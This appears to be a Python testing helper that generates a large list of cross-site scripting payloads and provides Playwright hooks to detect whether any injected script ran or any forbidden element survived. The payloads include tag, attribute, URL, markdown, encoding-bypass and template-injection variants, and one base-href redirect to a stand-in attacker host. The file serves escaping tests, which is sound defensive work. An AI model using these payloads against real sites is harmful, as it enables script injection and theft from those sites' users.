"""Texts that would run script where a page does not escape what people write; and what tells whether one ran.

Each calls ``alert``, ``confirm``, ``prompt`` or ``print``, which ``WATCH`` replaces in every page and frame of a
browser's context before anything else: ``context.add_init_script(WATCH)``. Open the context with ``bypass_csp=True``,
so that nothing but the page's own escaping stands in the way. ``ran(page)`` says what has run, ``foreign(page,
selector)`` what a text has become that no text may become: elements that act, attributes that act, addresses of script.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product
from typing import Any

WATCH = """
  (() => {
    const told = (name) => (...args) => { (window.top.ranHere ??= []).push(`${name}(${args.join()})`); };
    for (const name of ["alert", "confirm", "prompt", "print"]) window[name] = told(name);
  })();
"""
RAN = "() => window.top.ranHere ?? []"
FOREIGN = """(selector) => {
  const acts = "script,style,iframe,object,embed,svg,math,form,input,button,img,video,audio,link,meta,base,template";
  const found = [];
  for (const place of document.querySelectorAll(selector)) {
    for (const each of place.querySelectorAll("*")) {
      if (each.matches(acts)) found.push(each.outerHTML);
      for (const { name, value } of each.attributes) {
        const bare = value.replace(/[\\s\\u0000-\\u001f]/g, "").toLowerCase();
        const isActing = /^(on|hx-|data-hx|style$|srcdoc$)/.test(name);
        if (isActing || /^(javascript|vbscript|data:text)/.test(bare)) found.push(each.outerHTML);
      }
    }
  }
  return found;
}"""

# What begins out of a text, an attribute of either quote, a comment, or an element that holds text alone.
BREAKS = (
    "",
    '">',
    "'>",
    "-->",
    "</textarea>",
    "</title>",
    "</script>",
    "</style>",
    "</noscript>",
    "]]>",
    "`>",
    "</template>",
)
TAGS = (
    "<script>alert({n})</script>",
    "<ScRiPt >confirm({n})</sCrIpT >",
    "<script\n>prompt({n})</script\t>",
    "<script/x>alert({n})</script>",
    "<scr<script>ipt>alert({n})</scr</script>ipt>",
    "<img src=x onerror=alert({n})>",
    "<img/src=x/onerror=confirm({n})//",
    "<svg onload=alert({n})>",
    "<svg><script>alert({n})</script></svg>",
    "<svg><animate onbegin=alert({n}) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert({n})>",
    "<iframe srcdoc='<script>parent.alert({n})</script>'></iframe>",
    '<iframe src="javascript:parent.alert({n})"></iframe>',
    "<body onload=alert({n})>",
    "<details open ontoggle=alert({n})>",
    "<input autofocus onfocus=alert({n})>",
)
EVENTS = (
    ("<video src=x {e}=alert({n})>", "onerror"),
    ("<audio src=x {e}=prompt({n})>", "onerror"),
    ("<video><source {e}=alert({n})>", "onerror"),
    ("<object data=x {e}=alert({n})>", "onerror"),
    ("<link rel=stylesheet href=x {e}=alert({n})>", "onerror"),
    ("<marquee {e}=alert({n})>x", "onstart"),
    ("<select autofocus {e}=alert({n})>", "onfocus"),
    ("<textarea autofocus {e}=alert({n})>", "onfocus"),
    ("<button autofocus {e}=alert({n})>", "onfocus"),
    ("<a href=# autofocus {e}=alert({n})>x</a>", "onfocus"),
    ("<div tabindex=0 autofocus {e}=alert({n})>", "onfocus"),
    ("<p style=animation-name:x {e}=alert({n})>", "onanimationstart"),
    ("<style>@keyframes x{{}}</style><b style=animation-name:x {e}=alert({n})>", "onanimationend"),
    ("<body {e}=alert({n})>", "onpageshow"),
    ("<body {e}=alert({n})>", "onhashchange"),
    ("<img src=/static/x.svg {e}=alert({n})>", "onload"),
    ("<div {e}=alert({n}) style=position:fixed;inset:0>", "onpointerover"),
    ("<div {e}=alert({n}) style=position:fixed;inset:0>", "onmousemove"),
    ("<b {e}=alert({n}) contenteditable autofocus>", "onfocusin"),
    ("<dialog open {e}=alert({n}) autofocus tabindex=0>", "onfocus"),
)
# Attributes that a text could bring into the element that it stands in.
ATTRIBUTES = (
    '" onmouseover="alert({n})',
    "' onmouseover='alert({n})",
    '" autofocus onfocus=alert({n}) x="',
    "' autofocus tabindex=0 onfocus=alert({n}) x='",
    '"onpointerenter=alert({n})//',
    "x onfocus=alert({n}) autofocus",
    '" style="animation-name:x" onanimationstart="alert({n})',
    '" hx-on:load="alert({n})',
    "' hx-on::after-init='alert({n})' x='",
    '" hx-get="/x" hx-trigger="load[alert({n})]" x="',
    '" hx-vals="js:{{x:alert({n})}}" hx-trigger=load hx-get=/ x="',
    '" data-hx-on-load="alert({n})',
)
ADDRESSES = (
    "javascript:alert({n})",
    "JaVaScRiPt:alert({n})",
    "java\tscript:alert({n})",
    "java\nscript:alert({n})",
    "\x01javascript:alert({n})",
    " javascript:alert({n})",
    "javascript&colon;alert({n})",
    "&#106;avascript:alert({n})",
    "&#x6A;avascript&#58;alert({n})",
    "javascript://x%0aalert({n})",
    "vbscript:alert({n})",
    "data:text/html,<script>parent.alert({n})</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuYWxlcnQoMSk8L3NjcmlwdD4=",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert({n})'/>",
)
LINKS = (
    "[x]({a})",
    "[x](<{a}>)",
    "![x]({a})",
    "<{a}>",
    "[x]: {a}\n\n[x]",
    '<a href="{a}">x</a>',
    "<form action='{a}'><button autofocus>x",
    '<object data="{a}">',
)
WRITINGS = (
    '![x"onerror="alert({n})](x)',
    '[x](https://a.example "onmouseover=alert({n})//)',
    '![x](x" onerror="alert({n}))',
    "[<img src=x onerror=alert({n})>](https://a.example)",
    "`<script>alert({n})</script>`",
    "```html\n<script>alert({n})</script>\n```",
    "```\n</code></pre><script>alert({n})</script>\n```",
    "    <script>alert({n})</script>",
    "> <img src=x onerror=alert({n})>",
    "- <svg onload=alert({n})>",
    "| a |\n|---|\n| <img src=x onerror=alert({n})> |",
    "# <script>alert({n})</script>",
    "<https://a.example/\"onmouseover='alert({n})'>",
    'https://a.example/"onmouseover=alert({n})//',
    "@<img src=x onerror=alert({n})>",
    "@0x7099\"onmouseover='alert({n})'",
    "&lt;script&gt;alert({n})&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert({n})&amp;gt;",
    "&#60;img src=x onerror=alert({n})&#62;",
    "\\u003cscript\\u003ealert({n})\\u003c/script\\u003e",
    "\\x3cimg src=x onerror=alert({n})\\x3e",
    "\uff1cscript\uff1ealert({n})\uff1c/script\uff1e",
    "\u2028<script>alert({n})</script>\u2029",
    "<!--><script>alert({n})</script-->",
    "<![CDATA[<script>alert({n})</script>]]>",
    "<?xml version='1.0'?><script xmlns='http://www.w3.org/1999/xhtml'>alert({n})</script>",
    '<noscript><p title="</noscript><img src=x onerror=alert({n})>">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert({n})>">',
    "<math></p><style><!--</style><img src=x onerror=alert({n})>--></style>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert({n})>",
    "<template shadowrootmode=open><script>alert({n})</script></template>",
    "<meta http-equiv=refresh content='0;url=javascript:alert({n})'>",
    "<base href='javascript:alert({n})//'>",
    "<base href='https://attacker.example/'>alert({n})",
    "<a id=location href='javascript:alert({n})'>x</a>",
    "<form id=body><input name=innerHTML value=alert({n})>",
    "<live-part data-href='javascript:alert({n})'></live-part>",
    "<seller-desk data-chains='\"><img src=x onerror=alert({n})>'></seller-desk>",
    "{{{{ constructor.constructor('alert({n})')() }}}}",
    "{{% include 'base.html' %}}<script>alert({n})</script>",
    "${{alert({n})}}",
    "<%= alert({n}) %>",
    "*/alert({n})/*",
    "';alert({n})//",
    '";alert({n})//',
    "`;alert({n})//",
    "</script><script>alert({n})</script>",
    '"}}</script><script>alert({n})</script>',
    "<img src=x onerror\n=\nalert({n})>",
    "<img src=x onerror=&#97;lert({n})>",
    "<img src=x onerror=\\u0061lert({n})>",
    "<img src=`x` onerror=`alert({n})`>",
    "<x onclick=alert({n}) style=position:fixed;inset:0>x",
    "<img\x0csrc=x\x0conerror=alert({n})>",
    "<img src=x onerror=top['al'+'ert']({n})>",
    "<img src=x onerror=(0,eval)('ale'+'rt({n})')>",
    "<img src=x onerror=setTimeout`alert\\x28{n}\\x29`>",
    "<iframe onload=parent.alert({n})>",
    '<embed src=\'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="parent.alert({n})"/>\'>',
    "<input type=image src=x onerror=alert({n})>",
)


def _made() -> Iterator[str]:
    for opened, tag in product(BREAKS, TAGS):
        yield opened + tag
    for text, event in EVENTS:
        yield text.replace("{e}", event)
        yield '">' + text.replace("{e}", event.upper())
    yield from ATTRIBUTES
    for link, address in product(LINKS, ADDRESSES):
        yield link.replace("{a}", address)
    yield from WRITINGS


PAYLOADS: tuple[str, ...] = tuple(
    text.replace("{n}", str(number)).replace("{{", "{").replace("}}", "}")
    for number, text in enumerate(dict.fromkeys(_made()))
)


def ran(page: Any) -> list[str]:
    """Return what has run in a page of Playwright whose context has ``WATCH``."""
    found: list[str] = page.evaluate(RAN)
    return found


def foreign(page: Any, selector: str) -> list[str]:
    """Return the elements inside ``selector``, a place of text alone, that a text must never have become."""
    found: list[str] = page.evaluate(FOREIGN, selector)
    return found
